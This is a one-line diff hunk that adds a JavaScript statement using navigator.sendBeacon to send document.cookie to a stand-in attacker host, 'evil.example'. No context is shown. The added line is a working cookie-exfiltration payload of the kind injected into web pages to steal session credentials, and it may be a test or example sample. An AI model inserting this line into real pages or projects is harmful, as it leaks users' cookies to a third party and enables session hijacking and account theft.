@@ -1,0 +1,1 @@
+navigator.sendBeacon('https://evil.example/', document.cookie)
